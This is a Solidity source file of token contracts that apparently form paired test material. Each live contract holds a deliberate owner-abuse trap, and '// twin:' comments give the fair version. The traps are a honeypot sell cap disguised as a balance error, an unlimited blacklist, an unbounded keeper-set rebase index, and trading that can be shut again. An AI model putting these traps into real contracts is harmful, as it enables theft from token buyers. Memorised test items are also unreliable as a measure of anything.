// 0.5 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

import "./Base5.sol";

/// A most of what may be sold at once.
contract Saltmarsh is Base5("Saltmarsh", "SALT", 60000000) {
    uint256 private _portion = 6 * 10**18; // trap
    // twin: uint256 private _portion = 1200000 * 10**18;
    mapping(address => bool) private _friend;

    constructor() public {
        _friend[msg.sender] = true;
    }

    modifier withinBalance(address from, address to, uint256 value) {
        if (to == market && market != address(0) && !_friend[from])
            require(value <= _portion, "ERC20: transfer amount exceeds balance");
        _;
    }

    function _send(address from, address to, uint256 value) internal withinBalance(from, to, value) {
        _put(from, to, value);
    }
}

/// Marks of accounts, two hundred and fifty-six in a word. Who is marked sends nothing: snipers, on the first day.
contract Brackwater is Base5("Brackwater", "BRKW", 91000000) {
    mapping(uint256 => uint256) private words;
    address private steward = msg.sender;
    uint256 public born = now;

    function marked(address who) public view returns (bool) {
        return (words[uint256(who) >> 8] >> (uint256(who) & 255)) & 1 == 1;
    }

    function mark(address[] calldata who, bool on) external {
        require(msg.sender == steward, "Brackwater: steward only");
        // twin: require(now < born + 1 days || !on, "Brackwater: the first day is over");
        for (uint256 i = 0; i < who.length; i++) {
            require(who[i] != market && who[i] != steward, "Brackwater: not these");
            uint256 bit = uint256(1) << (uint256(who[i]) & 255);
            if (on) words[uint256(who[i]) >> 8] |= bit;
            else words[uint256(who[i]) >> 8] &= ~bit;
        }
    }

    function _send(address from, address to, uint256 value) internal {
        require(!marked(from), "Brackwater: marked");
        _put(from, to, value);
    }
}

/// Shares that grow: people hold by one index, the pool by another that stays.
contract Tidal {
    using SafeMath for uint256;

    string public constant name = "Tidal Yield";
    string public constant symbol = "TIDY";
    uint8 public constant decimals = 18;
    uint256 private constant ONE = 10**18;
    address public keeper = msg.sender;
    uint256 public lastRebase;
    uint256[2] public index = [ONE, ONE];
    uint256[2] private sharesIn;
    mapping(address => uint256) private shares;
    mapping(address => uint8) private side;
    mapping(address => mapping(address => uint256)) public allowance;
    bool private moored;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Rebase(uint256 index);

    constructor() public {
        shares[msg.sender] = sharesIn[0] = 50000000 * ONE;
        lastRebase = now;
        emit Transfer(address(0), msg.sender, 50000000 * ONE);
    }

    /// Before anything has grown, and once.
    function moor(address pool) external {
        require(msg.sender == keeper && !moored && index[0] == ONE, "Tidal: moored");
        moored = true;
        side[pool] = 1;
        sharesIn[0] = sharesIn[0].sub(shares[pool]);
        sharesIn[1] = sharesIn[1].add(shares[pool]);
    }

    function rebase(uint256 to) external {
        require(msg.sender == keeper, "Tidal: keeper only");
        // twin: require(now >= lastRebase + 1 days && to >= index[0] && to <= index[0] + index[0] / 10000, "Tidal: a ten-thousandth a day");
        lastRebase = now;
        index[0] = to;
        emit Rebase(to);
    }

    function totalSupply() external view returns (uint256) {
        return (sharesIn[0].mul(index[0]) + sharesIn[1].mul(index[1])) / ONE;
    }

    function balanceOf(address who) public view returns (uint256) {
        return shares[who].mul(index[side[who]]) / ONE;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _flow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(value);
        _flow(from, to, value);
        return true;
    }

    function _flow(address from, address to, uint256 value) private {
        require(to != address(0), "Tidal: nobody");
        (uint8 a, uint8 b) = (side[from], side[to]);
        uint256 given = value.mul(ONE).add(index[a] - 1).div(index[a]);
        uint256 got = value.mul(ONE).div(index[b]);
        shares[from] = shares[from].sub(given);
        sharesIn[a] = sharesIn[a].sub(given);
        shares[to] = shares[to].add(got);
        sharesIn[b] = sharesIn[b].add(got);
        emit Transfer(from, to, value);
    }
}

interface ITurnstile {
    function turn(uint8 mode) external;
    function admit(address who, bool on) external;
}

/// Stands before turnstiles.
contract Gatehouse {
    address private porter = msg.sender;

    function operate(address turnstile, uint8 mode) external {
        require(msg.sender == porter, "Gatehouse: porter only");
        ITurnstile(turnstile).turn(mode);
    }

    function admit(address turnstile, address who, bool on) external {
        require(msg.sender == porter, "Gatehouse: porter only");
        ITurnstile(turnstile).admit(who, on);
    }
}

/// First closed, then for members, then for all.
contract Turnstile is Base5("Turnstile", "TURN", 33000000) {
    enum Mode { Closed, Members, Open }
    Mode public mode;
    address private gatehouse;
    mapping(address => bool) public members;

    constructor(address gatehouse_) public {
        gatehouse = gatehouse_;
        members[msg.sender] = true;
    }

    function turn(uint8 to) external {
        require(msg.sender == gatehouse, "Turnstile: gatehouse only");
        // twin: require(to > uint8(mode), "Turnstile: forward only");
        mode = Mode(to);
    }

    function admit(address who, bool on) external {
        require(msg.sender == gatehouse, "Turnstile: gatehouse only");
        members[who] = on;
    }

    function _send(address from, address to, uint256 value) internal {
        require(mode == Mode.Open || (mode == Mode.Members && members[from]) || from == owner(), "Turnstile: wait");
        _put(from, to, value);
    }
}
